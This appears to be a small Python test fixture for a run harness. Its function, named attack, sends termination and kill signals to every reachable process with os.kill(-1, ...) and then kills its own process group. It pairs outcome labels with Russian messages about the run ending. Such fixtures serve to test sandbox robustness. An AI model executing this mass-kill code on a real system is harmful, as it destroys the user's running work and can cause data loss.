"""Killing everybody kills the own run and nobody else."""

import os

ENDS = "failed|finished"
SAYS = "Программа закрылась сама|Прогон завершён"


def attack(bait):
    for number in (15, 1, 9):
        os.kill(-1, number)
    os.killpg(0, 9)
